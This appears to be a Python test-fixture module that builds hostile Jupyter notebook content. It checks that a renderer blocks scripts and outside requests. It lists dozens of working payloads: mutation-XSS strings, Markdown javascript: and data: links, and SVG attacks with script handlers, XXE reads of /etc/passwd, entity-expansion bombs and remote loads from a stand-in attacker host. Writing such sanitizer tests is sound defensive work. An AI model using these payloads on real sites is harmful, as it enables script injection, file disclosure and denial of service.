"""Markup that is harmless until it is read a second time, drawings, and Markdown's own ways."""

from __future__ import annotations

import base64

from hostile_notebooks.base import EVIL, JS, PWNED, code, display, family, file, markdown
from hostile_notebooks.markup import NO_REQUEST, NO_SCRIPT

IMG = f"<img src=x onerror={PWNED}>"
SVG = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'

MUTATIONS = {
    "mglyph": f"<math><mtext><table><mglyph><style><!--</style>{IMG}",
    "annotation-xml": f"<math><annotation-xml encoding=text/html><style>{IMG}</style></annotation-xml>",
    "annotation-xml, svg": f'<math><annotation-xml encoding="text/html"><svg><style>{IMG}',
    "math in a form": f'<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style>{IMG}">',
    "svg style": f'<svg></p><style><a id="</style>{IMG}">',
    "svg desc": f"<svg><desc><noscript>&lt;/noscript>{IMG}",
    "svg title": f"<svg><title><style><!--</style>{IMG}--></title></svg>",
    "noscript": f'<noscript><p title="</noscript>{IMG}">',
    "comment end": f"<!--><img src=x onerror={PWNED}>-->",
    "comment in svg": f"<svg><!--<p title='-->{IMG}'>",
    "odd comment": f"<!-- --!>{IMG}<!-- -->",
    "cdata": f'<svg><![CDATA[><image xlink:href="]]>{IMG}"></svg>',
    "processing instruction": f"<?xml version=1><?php {IMG} ?>",
    "doctype": f'<!DOCTYPE html [<!ENTITY x "{IMG}">]>&x;',
    "foster parent": f"<table><tr><a href=x><table>{IMG}</a></table>",
    "select": f"<select><template><style><!--</style></template></select>{IMG}",
    "textarea": f"<textarea><!--</textarea>{IMG}-->",
    "title": f"<title><a title='</title>{IMG}'>",
    "xmp": f"<xmp><p title='</xmp>{IMG}'>",
    "iframe text": f"<iframe><p title='</iframe>{IMG}'></iframe>",
    "noembed": f"<noembed><p title='</noembed>{IMG}'>",
    "template": f"<template><p title='</template>{IMG}'></template>",
    "nested forms": f"<form><div></form><form><p title='</div>{IMG}'>",
    "attribute of an attribute": f'<p title="&quot;><img src=x onerror={PWNED}>">x</p>',
    "code of a code": f"```html\n</code></pre>{IMG}\n```",
    "half a character": f"<img src=x title=\ud800 onerror={PWNED}>",
    "isindex": f"<isindex type=image src=x onerror={PWNED}>",
    "wrong ends": f"</script>{IMG}</style>{IMG}</title>{IMG}",
    "many tags at once": f"<a<b<c<img src=x onerror={PWNED}>>>>",
    "spaces nobody sees": f"<\u200bscript>{PWNED}</script><\xa0img src=x onerror={PWNED}>",
}

MARKDOWN = {
    "inline link": f"[x]({JS}) [y](<{JS}> 'z') [z](JaVaScRiPt&colon;{PWNED})",
    "reference": f"[x][r] [r]\n\n[r]: {JS} 'title'",
    "autolink": f"<{JS}> <data:text/html,{PWNED}>",
    "image": f"![x]({JS}) ![y](data:text/html;base64,PHNjcmlwdD4=)",
    "data link": f"[x](data:text/html,<script>{PWNED}</script>)",
    "title": f"[x](/y '\"onmouseover={PWNED} x=\"')",
    "title, quotes": f'[x](/y "a" onmouseover="{PWNED}") ![a" onerror="{PWNED}](x)',
    "alternative text": f'![" onerror={PWNED} x="](x.png)',
    "entities": f"[x](&#x6A&#x61vascript:{PWNED}) [y](javascript&#58{PWNED})",
    "escapes": f"[x](java\\script:{PWNED}) [y](%6aavascript:{PWNED})",
    "nested brackets": f"[![x]({JS})]({JS})",
    "html in a link": f"[<img src=x onerror={PWNED}>](x)",
    "language of a code block": f'```"><img src=x onerror={PWNED}>\nx\n```',
    "table": f"| a |\n|---|\n| <script>{PWNED}</script> [x]({JS}) |",
    "footnote": f"[^1]\n\n[^1]: [x]({JS})\n\n[^<b onclick=x>]: y",
    "task list": f"- [x] <input autofocus onfocus={PWNED}>",
    "math": f"$$\\href{{{JS}}}{{x}} \\url{{{JS}}} \\htmlData{{x=y}}{{z}}$$",
    "math, class and style": "$\\class{site-header}{x} \\style{position:fixed}{x} \\cssId{main}{x}$",
    "math, picture": f"$\\includegraphics{{{EVIL}/t.png}}$ $\\unicode{{x3c}}script$",
    "math, markup": f"$</span><img src=x onerror={PWNED}>$ $$\\text{{<script>{PWNED}</script>}}$$",
    "math, macros": "$\\def\\a{\\a\\a}\\a \\newcommand\\b{\\b}\\b \\gdef\\frac{x}$",
    "mention": "@root !1 #1 $1 ~x %y &1",
    "front matter": f"---\ntitle: <script>{PWNED}</script>\n---\nx",
    "attachment": "![x](attachment:../../../../etc/passwd) ![y](attachment:/etc/passwd)",
    "path": "![x](../../../../etc/passwd) [y](/-/admin) ![z](file:///etc/passwd)",
    "path, markup": f'![x](a.png"onerror="{PWNED}) <a href=/x%0d%0aSet-Cookie:a=b>',
}


def _use(number: int) -> str:
    return f"<use href='#a{number}'/>"


DRAWINGS = {
    "script": f"<svg {SVG}><script>{PWNED}</script></svg>",
    "script, cdata": f"<svg {SVG}><script><![CDATA[{PWNED}]]></script></svg>",
    "script from elsewhere": f'<svg {SVG}><script href="{EVIL}/x.js"/></svg>',
    "handler": f'<svg {SVG} onload="{PWNED}"><rect onclick="{PWNED}" width="9" height="9"/></svg>',
    "foreign object": f'<svg {SVG}><foreignObject><body xmlns="http://www.w3.org/1999/xhtml">'
    f"<img src='x' onerror='{PWNED}'/></body></foreignObject></svg>",
    "use": f'<svg {SVG}><use xlink:href="data:image/svg+xml,&lt;svg id=x onload={PWNED}>#x"/></svg>',
    "use of a page": f'<svg {SVG}><use href="/-/x#y"/><use xlink:href="{EVIL}/x.svg#y"/></svg>',
    "animation": f'<svg {SVG}><a><animate attributeName="href" values="{JS}"/><text>x</text></a></svg>',
    "set": f'<svg {SVG}><set attributeName="onmouseover" to="{PWNED}"/></svg>',
    "image": f'<svg {SVG}><image href="{EVIL}/t.png" width="9" height="9"/></svg>',
    "style": f"<svg {SVG}><style>@import '{EVIL}/s.css';*{{fill:url({EVIL}/f#x)}}</style></svg>",
    "style sheet": f'<?xml-stylesheet href="{EVIL}/s.xsl" type="text/xsl"?><svg {SVG}/>',
    "external entity": '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    f"<svg {SVG}><text>&x;</text></svg>",
    "entities of entities": "<!DOCTYPE svg ["
    + "".join(
        f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' if n else '<!ENTITY e0 "xxxxxxxxxx">'
        for n in range(9)
    )
    + f"]><svg {SVG}><text>&e8;</text></svg>",
    "parameter entity": f'<!DOCTYPE svg [<!ENTITY % x SYSTEM "{EVIL}/x.dtd">%x;]><svg {SVG}/>',
    "frame in it": f'<svg {SVG}><foreignObject><iframe src="{JS}"/></foreignObject></svg>',
    "declared enormous": f'<svg {SVG} width="1e9" height="1e9"><rect width="1e9" height="1e9"/></svg>',
    "uses of uses": f"<svg {SVG}><g id='a0'><path d='M0 0h9'/></g>"
    + "".join(f"<g id='a{n}'>{_use(n - 1) * 10}</g>" for n in range(1, 9))
    + "</svg>",
}


def drawn(svg: str) -> bytes:
    """A drawing as output, inside HTML, in an address and as attachment."""
    coded = base64.b64encode(svg.encode()).decode()
    address = f"data:image/svg+xml;base64,{coded}"
    pieces = [svg[start : start + 11] for start in range(0, len(svg), 11)]
    return file(
        code("1", display({"image/svg+xml": svg}), display({"image/svg+xml": pieces})),
        code("2", display({"text/html": svg}), display({"text/html": f'<img src="{address}">'})),
        markdown(
            f"{svg}\n\n![x]({address})\n\n![y](attachment:a.svg)", attachments=_attached(coded)
        ),
    )


def _attached(coded: str) -> dict[str, object]:
    return {"a.svg": {"image/svg+xml": coded, "text/html": coded}}


ENTRIES = [
    *family("mutation", NO_SCRIPT, MUTATIONS),
    *family("markdown", NO_SCRIPT, MARKDOWN),
    *family("drawing", f"{NO_SCRIPT}, {NO_REQUEST}", DRAWINGS, drawn),
]
